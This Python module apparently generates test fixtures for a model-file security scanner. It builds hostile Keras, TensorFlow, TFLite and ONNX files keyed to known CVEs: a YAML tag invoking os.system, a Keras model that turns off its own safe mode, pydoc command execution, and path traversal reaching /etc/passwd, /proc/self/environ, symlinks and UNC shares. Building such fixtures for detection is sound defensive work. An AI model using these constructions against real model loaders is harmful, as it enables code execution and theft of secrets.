"""Models as graphs: Keras, TensorFlow, TFLite, ONNX and what their readers follow, import or run."""

# ruff: noqa: E501 - one technique a line, however long; paths in payloads that nothing runs

import base64
import json
import struct
from pathlib import Path
from typing import Any

from .kit import EVIL, MARK, field, technique, zipped


def _keras(config: dict[str, Any], **members: bytes) -> bytes:
    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}).encode()
    return zipped({"metadata.json": meta, "config.json": json.dumps(config).encode()} | members)


def _layer(name: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {
        "module": module,
        "class_name": name,
        "config": {"name": name.lower(), **config},
        "registered_name": None,
    }


def _model(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    first = _layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32"})
    config = {"name": "s", "trainable": True, "layers": [first, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None, **more}


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


@technique("CVE-2025-9906, Keras: the safe mode is switched off by the model itself", "class name", "m.keras")
def safe_mode_switched_off():
    off = {
        "module": "keras.config",
        "class_name": "enable_unsafe_deserialization",
        "config": {},
        "registered_name": None,
    }
    return _keras(_model(off))


@technique("CVE-2025-12058, Keras: the vocabulary of StringLookup is a path or an address", "path", "m.keras")
def vocabulary_of_an_address():
    return _keras(_model(_layer("TextVectorization", {"vocabulary": "http://localhost/v.txt"})))


@technique("Keras, serialization_lib.py: build_config is given to the class", "class name", "m.keras")
def optimizer_of_another_module():
    compiled = {
        "optimizer": {"module": "pydoc", "class_name": "pipepager", "config": {"text": MARK, "cmd": "cat"}}
    }
    return _keras(_model(_layer("Dense", {"units": 1}), compile_config=compiled))


@technique("Keras, serialization_lib.py: __lambda__ and __numpy__ stand for objects", "class name", "m.keras")
def lambda_in_an_initializer():
    code = base64.b64encode(b"\xe3" + b"\0" * 20).decode()
    init = {"class_name": "__lambda__", "config": {"value": code}}
    return _keras(_model(_layer("Dense", {"units": 1, "kernel_initializer": init})))


@technique(
    "RFC 8259, 4: names within an object should be unique; readers keep the first or the last",
    "malformed",
    "m.keras",
)
def keras_config_with_two_layers_keys():
    good = json.dumps(_model())
    evil = json.dumps(_model(_layer("Lambda", {"function": ["4w==", None, None]})))
    meta = json.dumps({"keras_version": "3.8.0"}).encode()
    return zipped({"metadata.json": meta, "config.json": (evil[:-1] + ", " + good[1:]).encode()})


@technique("CVE-2021-37678, Keras: models from YAML", "remote code")
def keras_yaml():
    return {"model.yaml": b"class_name: Sequential\nconfig: !!python/object/apply:os.system ['echo']\n"}


@technique("Keras 3: weights may be a pickle within an npz of the archive", "global", "m.keras")
def keras_with_a_pickle_beside():
    return _keras(_model(_layer("Dense", {"units": 1})), **{"assets/layers/tok.pkl": EVIL})


@technique("TensorFlow.js, model.json: the topology is a Keras config and its weights are paths", "path")
def tfjs_weights_elsewhere():
    manifest = [
        {"paths": ["../../../../etc/passwd"], "weights": [{"name": "w", "shape": [1], "dtype": "float32"}]}
    ]
    return {
        "model.json": json.dumps(
            {
                "format": "layers-model",
                "modelTopology": {"model_config": _model()},
                "weightsManifest": manifest,
            }
        ).encode()
    }


def _node(name: str, operator: str, **attributes: str) -> bytes:
    body = field(1, name) + field(2, operator)
    for key, value in attributes.items():
        body += field(5, field(1, key) + field(2, field(2, value)))
    return body


def _saved(graph: bytes, *more: bytes) -> dict[str, bytes]:
    meta = field(1, field(4, "serve") + field(5, "2.17.0")) + field(2, graph) + b"".join(more)
    return {"saved_model.pb": field(1, 1) + field(2, meta), "variables/variables.index": b""}


_TF = "TensorFlow security policy, SECURITY.md: models are programs; ops that touch files"

for _op in (
    "SaveSlices",
    "CreateSummaryFileWriter",
    "LMDBReader",
    "FixedLengthRecordDatasetV2",
    "XlaCustomCallV2",
):

    def _one(op: str = _op) -> dict[str, bytes]:
        return _saved(field(1, _node("n", op, filename="/etc/passwd")))

    _one.__name__ = "tf_op_" + "".join(c.lower() if c.isalnum() else "_" for c in _op)
    technique(_TF, "operator")(_one)


@technique(_TF + ": protobuf merges a message that is written twice", "operator")
def tf_graph_in_two_parts():
    return _saved(field(1, _node("p", "Placeholder")), field(2, field(1, _node("n", "WriteFile"))))


@technique(_TF + ": a table is filled from a file named in the graph", "path")
def tf_table_from_a_file():
    return _saved(
        field(1, _node("n", "InitializeTableFromTextFileV2"))
        + field(1, _node("c", "Const", value="/etc/passwd"))
    )


@technique("TensorFlow 1: a frozen graph without a SavedModel around it", "operator", "frozen.pb")
def tf_frozen_graph():
    return field(1, _node("p", "Placeholder")) + field(1, _node("n", "ReadFile")) + field(4, field(1, 1882))


@technique(
    "TensorFlow 1: .meta beside a checkpoint, read by import_meta_graph", "operator", "model.ckpt.meta"
)
def tf_meta_graph():
    return field(1, field(4, "serve")) + field(2, field(1, _node("n", "PyFunc", token="pyfunc_0")))


@technique("TensorFlow: SavedModel as text (saved_model.pbtxt)", "operator")
def tf_saved_model_as_text():
    text = 'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "n" op: "WriteFile" } } }\n'
    return {"saved_model.pbtxt": text.encode()}


@technique("TensorFlow: keras_metadata.pb holds layers as JSON", "class name")
def tf_keras_metadata():
    node = field(1, 0) + field(2, "root") + field(3, "_tf_keras_layer")
    lam = json.dumps(
        {
            "class_name": "Lambda",
            "config": {"function": {"class_name": "__tuple__", "items": ["4wAAAA==", None]}},
        }
    )
    return _saved(field(1, _node("p", "Placeholder"))) | {"keras_metadata.pb": field(1, node + field(4, lam))}


@technique("TensorFlow: the text file checkpoint names the newest checkpoint by path", "path")
def tf_checkpoint_elsewhere():
    return {
        "checkpoint": b'model_checkpoint_path: "/tmp/evil/model.ckpt"\nall_model_checkpoint_paths: "../../x"\n'
    }


def _tflite(name: str | None, builtin: int, metadata: bytes = b"") -> bytes:
    import flatbuffers

    b = flatbuffers.Builder(256)
    custom = b.CreateString(name) if name else None
    text = b.CreateString("m")
    b.StartObject(4)
    if custom is not None:
        b.PrependUOffsetTRelativeSlot(1, custom, 0)
    b.PrependInt8Slot(0, min(builtin, 127), 0)
    b.PrependInt32Slot(3, builtin, 0)
    code = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(code)
    codes = b.EndVector()
    b.StartObject(8)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, codes, 0)
    b.PrependUOffsetTRelativeSlot(3, text, 0)
    root = b.EndObject()
    b.Finish(root, file_identifier=b"TFL3")
    return bytes(b.Output()) + metadata


@technique(
    "TensorFlow Lite documentation, custom operators: code that the interpreter looks up by name",
    "operator",
    "m.tflite",
)
def tflite_custom_operator():
    return _tflite("EvilOp", 32)


@technique("TensorFlow Lite documentation, Select TensorFlow operators", "operator", "m.tflite")
def tflite_flex_operator():
    return _tflite("FlexWriteFile", 32)


@technique(
    "TensorFlow Lite documentation, metadata: associated files are a zip behind the model",
    "global",
    "m.tflite",
)
def tflite_with_files_behind():
    return _tflite(None, 0, zipped({"labels.txt": EVIL}))


def _onnx(nodes: list[Any] | None = None, tensor: dict[str, str] | None = None, **more: Any) -> bytes:
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    nodes = nodes or [helper.make_node("Identity", ["x"], ["y"])]
    initial = []
    if tensor is not None:
        w = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], data_location=TensorProto.EXTERNAL)
        for key, value in tensor.items():
            w.external_data.add(key=key, value=value)
        initial.append(w)
    graph = helper.make_graph(nodes, "g", [x], [y], initial)
    imports = [helper.make_opsetid("", 17)] + [helper.make_opsetid(d, 1) for d in more.get("domains", [])]
    model = helper.make_model(graph, opset_imports=imports, functions=more.get("functions", []))
    model.ir_version = 8
    assert isinstance(model, onnx.ModelProto)
    return model.SerializeToString()


_EXT = "CVE-2022-25882, CVE-2024-27318, CVE-2026-27489, ONNX: where external data may lie"

for _name, _place in {
    "onnx_data_on_a_share": "\\\\localhost\\share\\x",
    "onnx_data_at_an_address": "file:///etc/passwd",
    "onnx_data_after_a_nul": "w.bin\0/../../etc/passwd",
    "onnx_data_in_proc": "/proc/self/environ",
}.items():

    def _placed(place: str = _place) -> dict[str, bytes]:
        return {"model.onnx": _onnx(tensor={"location": place, "length": "4"}), "w.bin": b"\0" * 4}

    _placed.__name__ = _name
    technique(_EXT, "path")(_placed)


@technique(_EXT + ": by a link in the folder", "link")
def onnx_data_by_a_linked_folder():
    def write(root: Path) -> None:
        (root / "model.onnx").write_bytes(_onnx(tensor={"location": "d/passwd", "length": "4"}))
        (root / "d").symlink_to("/etc")

    return write


@technique("CVE-2026-34445, ONNX: keys of external data were set as attributes of an object", "path")
def onnx_data_with_unknown_keys():
    entry = {"location": "w.bin", "length": "4", "__class__": "x", "basepath": "/etc"}
    return {"model.onnx": _onnx(tensor=entry), "w.bin": b"\0" * 4}


@technique("ONNX, external data: an offset or a length that the file does not have", "malformed")
def onnx_data_beyond_the_file():
    return {
        "model.onnx": _onnx(tensor={"location": "w.bin", "offset": "-4096", "length": "999999999"}),
        "w.bin": b"\0" * 4,
    }


@technique("Protocol Buffers, encoding: messages that are concatenated are merged", "operator", "m.onnx")
def onnx_second_model_behind():
    from onnx import helper

    evil = _onnx([helper.make_node("Run", ["x"], ["y"], domain="evil")], domains=["evil"])
    return _onnx() + evil


@technique("ONNX: models as text are read by onnx.load, too", "path")
def onnx_as_text():
    text = 'ir_version: 8\ngraph { name: "g" initializer { name: "w" data_location: EXTERNAL external_data { key: "location" value: "/etc/passwd" } } }\n'
    return {"model.textproto": text.encode()}


@technique("ONNX: models as JSON are read by onnx.load, too", "path")
def onnx_as_json():
    value = {
        "irVersion": "8",
        "graph": {
            "name": "g",
            "initializer": [
                {
                    "name": "w",
                    "dataLocation": "EXTERNAL",
                    "externalData": [{"key": "location", "value": "/etc/passwd"}],
                }
            ],
        },
    }
    return {"model.json": json.dumps(value).encode()}


@technique("ONNX Runtime: .ort models are flatbuffers of their own", "unknown format", "m.ort")
def onnx_runtime_format():
    return struct.pack("<I", 16) + b"ORTM" + b"\0" * 64
